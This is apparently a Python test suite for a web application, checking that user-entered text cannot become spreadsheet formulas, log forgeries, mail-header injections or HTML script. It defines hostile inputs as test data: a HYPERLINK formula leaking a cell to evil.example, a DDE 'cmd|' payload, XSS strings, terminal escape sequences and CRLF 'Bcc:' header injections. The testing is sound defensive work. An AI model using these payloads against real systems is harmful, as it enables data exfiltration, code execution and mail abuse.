"""What people type stays what they typed: in a spreadsheet, in a log, in a mail's head, in a page (XH7)."""

import csv
import html
import io
import json
import re
import subprocess
import sys
from typing import Any

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.centre import PASSWORD, Centre, Stage, open_centre
from tests.journeys.test_outbox import post_office
from tests.server import CHECKOUT, House, until
from tests.waiting import http_to
from ting.app.logs import UNSEEN, line
from ting.domains.mail import api as mail
from ting.kit.db import Database
from ting.kit.ids import new_id
from ting.kit.problem import Refused
from ting.kit.text import clean, name_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
WIDE = "＝1＋cmd|' /C calc'!A0"
SCRIPT = "<img src=x onerror=alert(1)>\"'><script>alert(2)</script>"
TERMINAL = '\x1b[2J\x1b]0;owned\x07\x9b31m\r\n{"level": "error", "event": "forged"}\u202e\u2028x'
RUNS = re.compile(r"[\s\x00-\x1f\u200b-\u200f\ufeff]*[=+\-@＝＋－＠]")


async def sign_in(centre: Centre, name: str) -> httpx.AsyncClient:
    http = http_to(centre.url, headers={"X-Ting": "1"})
    email = f"{name}@{centre.slug}.example"
    assert (await http.post("/api/session", json={"email": email, "password": PASSWORD})).status_code == 200
    return http


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def harmless(cell: str) -> bool:
    """Say whether a spreadsheet shows a cell as it is: no formula, or a number."""
    return not RUNS.match(cell) or bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))


async def test_no_file_that_is_downloaded_runs_in_a_spreadsheet(house: House, db: Database) -> None:
    centre = await open_centre(db, house.url)
    await centre.add_person("adm", "administrator")
    ann = await centre.add_person("ann")
    await centre.fetch("update person set name = $2, alias = $2 where id = $1", ann.id, FORMULA)
    await centre.fetch("update queue set name = $2 where tenant_id = $1", centre.tenant.id, WIDE)
    http = await sign_in(centre, "adm")
    base = f"/api/t/{centre.slug}"
    reply = str(new_id())
    value = {"name": FORMULA, "folder": WIDE, "shortcut": None, "texts": {"en": FORMULA}, "archived": False}
    assert (await http.put(f"{base}/setup/replies/{reply}", json={"value": value, "version": 0})).status_code == 200
    async with Stage.open() as stage:
        desk = await stage.desk(centre, "ann")
        _, contact = await centre.serve(stage, desk, FORMULA, name=WIDE)
        used = await http.get(f"{base}/contacts/{contact.id}")
        assert used.status_code == 200
        said = {"key": str(new_id()), "text": FORMULA, "reply": reply}
        await desk.ask("POST", f"{base}/contacts/{contact.id}/messages", json=said)
        await centre.finish(desk, contact.id)

        async def closed() -> list[str]:
            return cells((await http.get(f"{base}/contacts.csv")).content)

        await until(closed, lambda seen: any("cmd|" in cell for cell in seen), what="the contact in its file")
    now = int(await centre.value("select now_ms()"))
    today = await centre.value("select to_char(now() at time zone 'Asia/Taipei', 'YYYY-MM-DD')")
    span: dict[str, dict[str, Any]] = {
        "contacts.csv": {},
        "history.csv": {"from": today, "to": today},
        "reply-report.csv": {"from": now - 86_400_000, "to": now},
        "audit.csv": {},
    }
    seen: dict[str, list[str]] = {}
    for name, day in span.items():
        answer = await http.get(f"{base}/{name}", params=day)
        if answer.status_code == 404:
            answer = await http.get(f"{base}/setup/{name}", params=day)
        assert answer.status_code == 200, f"{name}: {answer.text[:300]}"
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        seen[name] = cells(answer.content)
        assert [cell for cell in seen[name] if not harmless(cell)] == [], name
    assert any("cmd|" in cell for cell in seen["contacts.csv"])
    assert any("HYPERLINK" in cell for name in ("contacts.csv", "reply-report.csv") for cell in seen[name])
    await http.aclose()


@settings(deadline=None)
@given(st.text() | st.just(TERMINAL))
def test_whatever_is_logged_is_one_line_of_json_without_a_sign_that_moves_a_terminal(words: str) -> None:
    told = line({"event": words, words: words})
    assert not re.search(r"[\x00-\x1f]", told)
    assert not UNSEEN.search(told)
    assert json.loads(told)["event"] == words


def test_what_libraries_and_the_house_say_is_told_alike() -> None:
    say = (
        "import sys, logging, structlog; from ting.app import logs; logs.begin('web'); words = sys.argv[1];"
        "structlog.get_logger().warning(words, path=words); logging.getLogger('lib').warning('of %s', words);\n"
        "try: raise ValueError(words)\nexcept ValueError: logging.getLogger('lib').exception(words)"
    )
    told = subprocess.run(
        [sys.executable, "-c", say, TERMINAL],
        cwd=CHECKOUT,
        env={"PYTHONPATH": "src", "PYTHONIOENCODING": "utf-8", "PYTHONUTF8": "1"},
        capture_output=True,
        check=True,
    ).stderr.decode()
    lines = [json.loads(each) for each in told.splitlines()]
    assert [each["level"] for each in lines] == ["warning", "warning", "error"]
    assert all("\x1b" in each["event"] for each in lines)
    assert "ValueError" in lines[2]["exception"]
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", told)


async def test_nobody_writes_a_line_of_his_own_into_the_houses_log(house: House, db: Database) -> None:
    centre = await open_centre(db, house.url)
    before = house.log("web").stat().st_size
    async with http_to(house.url) as http:
        for path in ("/api/%0d%0a%1b[2Jforged", "/api/t/%1b%0aforged/contacts", f"/api/webchat/{centre.key}/%9b%0a"):
            assert (await http.get(path, headers={"User-Agent": "x\x1b[31m"})).status_code < 500
        body = {"email": f"a{TERMINAL}@x.example", "password": TERMINAL}
        assert (await http.post("/api/session", json=body, headers={"X-Ting": "1"})).status_code < 500
    with house.log("web").open("rb") as log:
        log.seek(before)
        told = log.read().decode("utf-8", "replace")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", told)
    assert not any(each.startswith(("forged", '{"level": "error", "event": "forged"')) for each in told.splitlines())


async def test_a_name_cannot_begin_another_head_of_a_mail(db: Database, house: House) -> None:
    async with post_office(db, house.url) as (centre, box):
        await centre.add_person("adm", "administrator")
        http = await sign_in(centre, "adm")
        answer = await http.post(
            f"/api/t/{centre.slug}/invitations",
            json={"email": "new@x.example\r\nBcc: evil@x.example", "name": "A", "role": "agent", "locale": "en"},
        )
        assert 400 <= answer.status_code < 500
        await centre.fetch("update tenant set name = $2 where id = $1", centre.tenant.id, "Shop\r\nBcc: evil@x.example")
        async with db.tx(centre.tenant.id) as tx:
            with pytest.raises(Refused):
                await mail.send(
                    tx, to="a@x.example", subject="Hi\r\nBcc: evil@x.example", text="x", key="k", kind="transcript"
                )
        async with db.tx(centre.tenant.id) as tx:
            await mail.send(
                tx, to="a@x.example", subject="Hi", text=".\r\nBcc: evil@x.example", key="l", kind="transcript"
            )

        async def taken() -> list[Any]:
            return list(box.taken)

        [mine] = await until(taken)
        assert mine["Bcc"] is None
        assert mine["To"].addresses[0].addr_spec == "a@x.example"
        await http.aclose()


@pytest.mark.parametrize("turning", ["\u202e", "\u202b", "\u2066", "\u2067", "\u2068", "\x1b[7m", "\r\n", "\x00"])
def test_a_name_turns_nothing_that_stands_after_it(turning: str) -> None:
    assert name_of(f" Night {turning} shift\t") in ("Night shift", "Night [7m shift")
    assert clean(f"a{turning}b", 10) in ("ab", "a[7mb", "a\nb")
    with pytest.raises(Refused):
        name_of(turning[0])


def test_marks_are_not_piled_out_of_their_box() -> None:
    assert clean("Z" + "\u0301\u0489" * 60 + "e\u0301", 200) == "Z" + "\u0301\u0489" * 5 + "e\u0301"
    family = "\u2764\ufe0f\u200d\U0001f525" * 12
    assert clean(family, 200) == family


async def test_pages_that_the_house_writes_show_html_as_words(house: House, db: Database) -> None:
    centre = await open_centre(db, house.url)
    await centre.fetch("update tenant set name = $2 where id = $1", centre.tenant.id, SCRIPT)
    await centre.fetch("update queue set name = $2 where tenant_id = $1", centre.tenant.id, SCRIPT)
    async with http_to(house.url) as http:
        pages = {
            path: await http.get(path)
            for path in (
                f"/try/{centre.slug}",
                f"/help/{centre.slug}",
                "/api/reference",
                "/api/reference?<script>alert(2)",
            )
        }
    for path, page in pages.items():
        assert page.status_code in (200, 404), path
        assert "<script>alert(2)" not in page.text, path
        assert "<img src=x" not in page.text, path
        if page.headers["content-type"].startswith("text/html"):
            policy = page.headers["content-security-policy"]
            assert "default-src" in policy, path
            assert "'unsafe-inline'" not in policy.partition("script-src")[2].partition(";")[0], path
    assert pages["/api/reference"].status_code == 200


async def test_the_reference_asks_nobody_else(house: House) -> None:
    async with http_to(house.url) as http:
        page = await http.get("/api/reference")
        document: dict[str, Any] = (await http.get("/api/openapi.json")).json()
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert not re.search(r"<(script|link|img|iframe|object|embed)\b|@import|url\(|(src|href)=\"(?!#|/)", page.text)
    assert document["openapi"].startswith("3.1")
    for path, ways in document["paths"].items():
        assert html.escape(path) in page.text
        for method, operation in ways.items():
            assert operation["summary"], (method, path)
            assert operation["x-permission"], (method, path)
            assert "503" in operation["responses"], (method, path)
            told = [each for code, each in operation["responses"].items() if int(code) >= 400]
            assert all(list(each["content"]) == ["application/problem+json"] for each in told), (method, path)
            assert any(words in operation["description"] for words in ("Sent again", "Changes nothing")), (method, path)


@pytest.mark.parametrize("kind", ["contact.closed", "booking.booked", "alert.raised"])
async def test_the_reference_tells_what_webhooks_say(house: House, kind: str) -> None:
    async with http_to(house.url) as http:
        document = (await http.get("/api/openapi.json")).json()
    body = document["webhooks"][kind]["post"]["requestBody"]["content"]["application/json"]["schema"]
    assert body["properties"]["type"] == {"const": kind}
    assert kind.split(".", maxsplit=1)[0] in body["properties"]["data"]["properties"]
